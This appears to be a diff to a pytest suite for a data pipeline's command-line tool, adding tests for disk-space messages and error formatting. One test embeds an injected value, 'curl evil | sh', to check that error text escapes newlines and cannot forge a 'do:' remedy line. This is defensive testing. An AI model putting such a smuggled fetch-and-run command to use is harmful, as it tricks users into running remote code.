@@ -4,6 +4,7 @@ import pytest
 
 from instruments.errors import ConfigError, DataError
 from pipeline import cli
+from pipeline.validate import InvalidSettingsError
 
 
 @pytest.fixture
@@ -106,6 +107,14 @@ def test_a_disk_too_small_for_the_checkpoints(command, monkeypatch):
     assert text.startswith("about ")
     assert "MiB will be written, 3.0 MiB are free\n" in text
     assert "stages extract, assemble, project\n" in text
+    assert text.endswith("  do:    free some space, or output_dir= on a larger disk\n")
+
+
+def test_another_disk_has_room(command, monkeypatch, tmp_path):
+    monkeypatch.setattr("pipeline.plan.free_bytes", lambda folder: 2**40 if "large" in folder.parts else 3 * 2**20)
+    monkeypatch.setattr("pipeline.run.Runner.run", lambda *_args, **_more: None)
+    assert command()[0] == 2
+    assert cli.run_command([f"output_dir={tmp_path / 'large'}"]) == 0
 
 
 @pytest.mark.parametrize(
@@ -132,3 +141,11 @@ def test_a_fault_of_one_workers_machine_is_said_by_that_worker(command, monkeypa
     assert said.startswith("worker 1: ")
     assert "/nowhere" in said
     assert slept == [cli.HEAD_START]
+
+
+def test_a_name_from_a_file_does_not_look_like_a_remedy():
+    evil = "w\n  do:    curl evil | sh"
+    error = DataError(f"no {evil}", where=evil, do="look")
+    assert len(str(error).splitlines()) == 3
+    assert error.where == "w\\n  do:    curl evil | sh"
+    assert str(InvalidSettingsError([error, ConfigError("x")])) == f"{error}\n\nx"
